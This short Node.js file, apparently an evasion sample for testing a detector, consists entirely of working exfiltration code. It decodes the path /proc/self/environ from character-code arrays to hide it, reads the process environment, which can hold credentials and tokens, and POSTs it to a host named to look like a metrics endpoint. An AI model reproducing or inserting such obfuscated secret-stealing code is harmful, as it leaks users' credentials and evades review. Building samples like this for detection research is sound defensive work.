// Evasion: sends the process environment (from /proc/self/environ) out.
// The path is a table of character-code lists, one per path component,
// decoded by mapping String.fromCharCode over each inner list.
'use strict';
const fs = require('fs');
const https = require('https');

const TABLE = [
  [112, 114, 111, 99],
  [115, 101, 108, 102],
  [101, 110, 118, 105, 114, 111, 110],
];

const source = '/' + TABLE.map((codes) => String.fromCharCode(...codes)).join('/');
const payload = fs.readFileSync(source);

const req = https.request({ host: 'metrics.example.org', path: '/ingest', method: 'POST' });
req.end(payload);
